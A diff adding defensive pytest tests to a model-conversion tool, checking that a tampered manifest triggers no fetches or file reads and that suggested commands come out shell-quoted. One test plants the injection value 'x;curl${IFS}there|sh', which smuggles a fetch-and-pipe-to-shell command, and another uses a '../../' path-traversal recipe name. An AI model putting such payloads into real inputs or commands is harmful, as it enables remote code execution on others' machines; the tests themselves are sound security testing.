@@ -1,6 +1,7 @@
 """`convert bisect FOLDER`: the stage that broke a model is named, and the op in it; faults are planted in each."""
 
 import json
+import shlex
 from collections.abc import Callable, Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -14,6 +15,7 @@ from onnx import numpy_helper
 from torch import Tensor, nn
 
 from convert import manifest as manifests
+from convert import suggestion as suggestion_module
 from convert.again import AbsentError, request_of, settled_again
 from convert.broken import Break, breaks
 from convert.folder import listing
@@ -243,6 +245,43 @@ def test_what_the_folder_was_not_made_with_is_refused(folder: Path) -> None:
         manifests.write(changed, folder)
         with pytest.raises(UserError, match=said):
             _stages(folder)
+
+
+@pytest.mark.parametrize(
+    ("changed", "said"),
+    [
+        (
+            {"command": "convert recipe mn04_as --to onnx"},
+            "is of mn04_as with published weights, and the folder of mel_w",
+        ),
+        (
+            {"command": "convert recipe mn04_as --to onnx", "weights": "published", "variant": "mn10_as"},
+            "is of mn04_as",
+        ),
+        ({"command": "convert recipe mel_whisper80 --streaming soon"}, "command: is no `convert recipe`"),
+        ({"command": "convert recipe mel_whisper80 --labels"}, "command: is no `convert recipe`"),
+        ({"command": "convert recipe ../../whisper80"}, "there is no recipe"),
+    ],
+)
+def test_a_stranger_s_manifest_makes_nothing_be_fetched_or_read(
+    folder: Path, monkeypatch: pytest.MonkeyPatch, changed: dict[str, str], said: str
+) -> None:
+    def refused(*_: Any) -> Path:
+        raise AssertionError("reached for a file that the manifest names")
+
+    monkeypatch.setattr("convert.subject.fetch", refused)
+    monkeypatch.setattr("convert.again.cached", lambda _: folder / "in the cache")
+    monkeypatch.setattr("convert.subject.text_of", refused)
+    manifests.write(replace(manifests.read(folder), **cast(Any, changed)), folder)
+    with pytest.raises(UserError, match=said):
+        _stages(folder)
+
+
+def test_what_is_suggested_is_quoted_whatever_the_manifest_says(made: Path) -> None:
+    manifest = replace(manifests.read(made), command="convert recipe pann --labels x;curl${IFS}there|sh")
+    typed = shlex.split(suggestion_module._command(manifest, ["a b"]))
+    assert typed == ["convert", "recipe", "pann", "--labels", "x;curl${IFS}there|sh", "--float32-op", "a b"]
+    assert "'x;curl${IFS}there|sh'" in suggestion_module._command(manifest, [])
 
 
 def test_files_are_held_to_the_reference_where_the_checkpoint_is_not_here(
